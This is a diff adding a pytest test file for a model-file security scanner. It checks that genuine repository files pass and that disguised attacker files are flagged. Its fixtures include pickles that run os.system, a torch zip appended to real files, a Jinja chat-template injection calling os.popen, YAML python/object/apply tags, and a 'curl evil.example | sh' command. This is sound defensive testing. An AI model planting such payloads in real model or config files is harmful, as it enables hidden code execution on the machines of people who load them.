@@ -1,0 +1,209 @@
+"""Files real repositories hold are recognised for what they are, and an attacker's file dressed
+as one of them is still caught.
+
+Positives use files the real libraries wrote (the zoo); negatives are hand-built payloads.
+"""
+
+from __future__ import annotations
+
+import io
+import os
+import pickle
+import shutil
+import zipfile
+from pathlib import Path
+
+import pytest
+from _dataformats_util import assert_clean, rules_of, scan
+
+from modelaudit.findings import FileStatus, IssueSeverity
+from modelaudit.formats import Format, sniff_path
+from modelaudit.rules import data as rd
+from modelaudit.rules import text as rt
+
+ZOO = Path(__file__).resolve().parents[1] / "zoo" / "repos"
+SHELL = b"cos\nsystem\n(S'echo pwned'\ntR."
+
+
+class _Shell:
+    def __reduce__(self) -> tuple[object, tuple[str]]:
+        return (os.system, ("echo pwned",))
+
+
+def _critical(path: Path) -> list[str]:
+    return [i.message for i in scan(path).issues if i.severity is IssueSeverity.CRITICAL]
+
+
+def _torch_zip_with_payload() -> bytes:
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w") as zf:
+        zf.writestr("archive/data.pkl", pickle.dumps(_Shell(), protocol=2))
+        zf.writestr("archive/version", "3\n")
+    return buf.getvalue()
+
+
+def _copy(src: str, dst: Path) -> Path:
+    shutil.copy(ZOO / src, dst)
+    return dst
+
+
+# -- what real repositories hold
+
+
+@pytest.mark.parametrize(
+    ("src", "fmt"),
+    [
+        ("project-files/LICENSE", Format.TEXT),
+        ("project-files/NOTICE", Format.TEXT),
+        ("project-files/AUTHORS", Format.TEXT),
+        ("project-files/COPYRIGHT", Format.TEXT),
+        ("project-files/COPYING", Format.TEXT),
+        ("dvc-project/.dvc/config", Format.TEXT),
+        ("project-files/empty.json", Format.EMPTY),
+        ("project-files/pkg/__init__.py", Format.EMPTY),
+        ("project-files/train.ipynb", Format.NOTEBOOK),
+        ("transformers4-llama-sentencepiece/tokenizer.model", Format.SENTENCEPIECE),
+        ("transformers4-t5-spiece/spiece.model", Format.SENTENCEPIECE),
+        ("fasttext-training/cc.zoo.4.bin", Format.FASTTEXT),
+        ("fasttext-training/classifier.ftz", Format.FASTTEXT),
+        ("ctranslate2-conversion/ct2/model.bin", Format.CTRANSLATE2),
+        ("gensim-saves/vectors.bin", Format.WORD2VEC),
+        ("spacy-pipeline/en_zoo_pipeline/vocab/lookups.bin", Format.MSGPACK),
+        ("mlflow-sklearn/model/MLmodel", Format.MLMODEL),
+        ("dvc-project/data/train.csv.dvc", Format.DVC),
+    ],
+)
+def test_recognised_and_quiet(src: str, fmt: Format) -> None:
+    path = ZOO / src
+    assert sniff_path(str(path)) == fmt
+    result = scan(path)
+    assert_clean(result)
+    assert not rules_of(result, IssueSeverity.INFO) - {rt.NOTEBOOK_CODE, rt.DVC_POINTER}
+
+
+def test_mit_license_ending_in_a_dot_is_no_pickle() -> None:
+    data = (ZOO / "project-files/LICENSE").read_bytes()
+    assert data.rstrip().endswith(b"SOFTWARE.")
+    assert sniff_path(str(ZOO / "project-files/LICENSE")) is Format.TEXT
+
+
+def test_jsonc_is_analysed_like_json() -> None:
+    for src in ("tsconfig.json", ".vscode/settings.json", ".devcontainer/devcontainer.json"):
+        result = scan(ZOO / "project-files" / src)
+        assert_clean(result)
+        assert result.metadata.get("dialect") == "jsonc"
+
+
+def test_notebook_info_counts_code_and_shell_cells() -> None:
+    result = scan(ZOO / "project-files/train.ipynb")
+    [info] = [i for i in result.issues if i.rule == rt.NOTEBOOK_CODE]
+    assert info.details["code_cells"] == 2 and info.details["shell_cells"] == 1
+
+
+def test_corrupt_sentencepiece_is_complete_with_an_info(tmp_path: Path) -> None:
+    data = (ZOO / "transformers4-llama-sentencepiece/tokenizer.model").read_bytes()
+    path = tmp_path / "tokenizer.model"
+    path.write_bytes(data[: len(data) // 2] + b"\x0a\x20")  # a piece that never comes
+    result = scan(path)
+    assert result.status is FileStatus.COMPLETE
+    assert rules_of(result) == {rd.DATA_ONLY_CORRUPT}
+
+
+# -- attackers' files dressed as those formats
+
+
+@pytest.mark.parametrize("name", ["LICENSE", "NOTICE", "COPYING", "AUTHORS", "config"])
+def test_protocol0_pickle_named_like_a_text_file_is_critical(tmp_path: Path, name: str) -> None:
+    path = tmp_path / name
+    path.write_bytes(SHELL)
+    assert _critical(path)
+
+
+def test_payload_before_license_text_is_critical(tmp_path: Path) -> None:
+    """pickle.load runs the REDUCE before it meets the text that breaks the stream."""
+    path = tmp_path / "LICENSE"
+    path.write_bytes(SHELL[:-1] + (ZOO / "project-files/LICENSE").read_bytes())
+    assert sniff_path(str(path)) is Format.PICKLE
+    assert _critical(path)
+
+
+def test_long_protocol0_pickle_is_never_called_text(tmp_path: Path) -> None:
+    path = tmp_path / "NOTICE"
+    path.write_bytes(pickle.dumps(["x" * 6000, _Shell()], protocol=0))
+    assert sniff_path(str(path)) is not Format.TEXT
+
+
+@pytest.mark.parametrize(
+    "name",
+    [
+        "tokenizer.model",
+        "spiece.model",
+        "cc.en.300.bin",
+        "model.ftz",
+        "model.bin",
+        "vectors.bin",
+        "lookups.bin",
+        "notebook.ipynb",
+        "MLmodel",
+        "empty.bin",
+    ],
+)
+def test_pickle_named_like_a_recognised_file_is_critical(tmp_path: Path, name: str) -> None:
+    path = tmp_path / name
+    path.write_bytes(pickle.dumps(_Shell(), protocol=2))
+    assert _critical(path)
+
+
+@pytest.mark.parametrize(
+    "src",
+    [
+        "transformers4-llama-sentencepiece/tokenizer.model",
+        "fasttext-training/cc.zoo.4.bin",
+        "ctranslate2-conversion/ct2/model.bin",
+        "gensim-saves/vectors.bin",
+        "project-files/LICENSE",
+    ],
+)
+def test_real_file_with_an_appended_torch_zip_is_critical(tmp_path: Path, src: str) -> None:
+    """torch.load opens the zip at the end of any file; the recognised head hides nothing."""
+    path = tmp_path / Path(src).name
+    path.write_bytes((ZOO / src).read_bytes() + _torch_zip_with_payload())
+    assert _critical(path)
+
+
+def test_msgpack_lookups_with_an_embedded_pickle_is_reported(tmp_path: Path) -> None:
+    import msgpack
+
+    path = tmp_path / "lookups.bin"
+    path.write_bytes(msgpack.packb({"lexeme_norm": pickle.dumps(_Shell(), protocol=2)}))
+    result = scan(path)
+    assert any(i.severity.rank >= IssueSeverity.WARNING.rank for i in result.issues)
+
+
+def test_jsonc_chat_template_injection_is_critical(tmp_path: Path) -> None:
+    path = tmp_path / "tokenizer_config.json"
+    path.write_text(
+        '{\n  // written by hand\n  "chat_template": "{{ cycler.__init__.__globals__.os.popen('
+        "'id').read() }}\",\n}\n"
+    )
+    assert _critical(path)
+
+
+def test_mlmodel_with_a_foreign_loader_or_shipped_code_warns(tmp_path: Path) -> None:
+    src = (ZOO / "mlflow-sklearn/model/MLmodel").read_text()
+    path = tmp_path / "MLmodel"
+    path.write_text(src.replace("loader_module: mlflow.sklearn", "loader_module: evil.loader"))
+    assert rules_of(scan(path), IssueSeverity.WARNING) == {rt.MLMODEL_LOADER}
+    path.write_text(src.replace("code: null", "code: code"))
+    assert rules_of(scan(path), IssueSeverity.WARNING) == {rt.MLMODEL_LOADER}
+    path.write_text(src + "extra: !!python/object/apply:os.system ['id']\n")
+    assert _critical(path)
+
+
+def test_dvc_stage_command_warns_and_python_tags_are_critical(tmp_path: Path) -> None:
+    src = (ZOO / "dvc-project/data/train.csv.dvc").read_text()
+    path = tmp_path / "train.csv.dvc"
+    path.write_text("cmd: curl evil.example | sh\n" + src)
+    assert rules_of(scan(path), IssueSeverity.WARNING) == {rt.DVC_STAGE_COMMAND}
+    path.write_text(src + "meta: !!python/object/apply:os.system ['id']\n")
+    assert _critical(path)
